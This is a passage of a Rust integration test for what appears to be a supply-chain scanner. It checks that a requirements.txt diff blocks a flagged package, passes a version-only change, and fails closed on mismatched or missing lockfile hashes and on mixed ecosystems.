            "head/requirements.txt",
            "--index-url",
            &index,
            "--format",
            "json",
        ],
    );
    assert_exit(&o, 1);
    let r: Value = serde_json::from_str(&stdout(&o)).unwrap();
    assert_eq!(r["ecosystem"], "pypi");
    let pkg = |n: &str| {
        r["packages"]
            .as_array()
            .unwrap()
            .iter()
            .find(|p| p["name"] == n)
            .unwrap()
            .clone()
    };
    assert_eq!(pkg("demo")["verdict"], "block");
    assert!(pkg("demo")["findings"].to_string().contains("py-pth-exec"));
    assert_eq!(pkg("newdep")["from"], "0.9.0");
    assert_eq!(pkg("newdep")["verdict"], "pass");
    // The version-only control passes.
    std::fs::write(dir.join("head/requirements.txt"), req(&[("demo", "1.0.2")])).unwrap();
    let o = sb.run(
        dir,
        &[
            "diff",
            "base/requirements.txt",
            "head/requirements.txt",
            "--index-url",
            &index,
        ],
    );
    assert_exit(&o, 0);
    // A lockfile hash no file of that release has: fail closed, nothing judged.
    std::fs::write(
        dir.join("head/requirements.txt"),
        format!("demo==1.0.1 --hash=sha256:{}\n", "0".repeat(64)),
    )
    .unwrap();
    let o = sb.run(
        dir,
        &[
            "diff",
            "base/requirements.txt",
            "head/requirements.txt",
            "--index-url",
            &index,
        ],
    );
    assert_exit(&o, 2);
    assert!(
        stderr(&o).contains("matches the lockfile's hashes"),
        "{}",
        stderr(&o)
    );
    // No hash at all: nothing to hold the download to.
    std::fs::write(dir.join("head/requirements.txt"), "demo==1.0.1\n").unwrap();
    let o = sb.run(
        dir,
        &[
            "diff",
            "base/requirements.txt",
            "head/requirements.txt",
            "--index-url",
            &index,
        ],
    );
    assert_exit(&o, 2);
    // Lockfiles of two ecosystems.
    let o = sb.run(
        dir,
        &[
            "diff",
            "base/requirements.txt",
            &fixture("seed/base/package-lock.json").to_string_lossy(),
        ],
    );
    assert_exit(&o, 2);
}
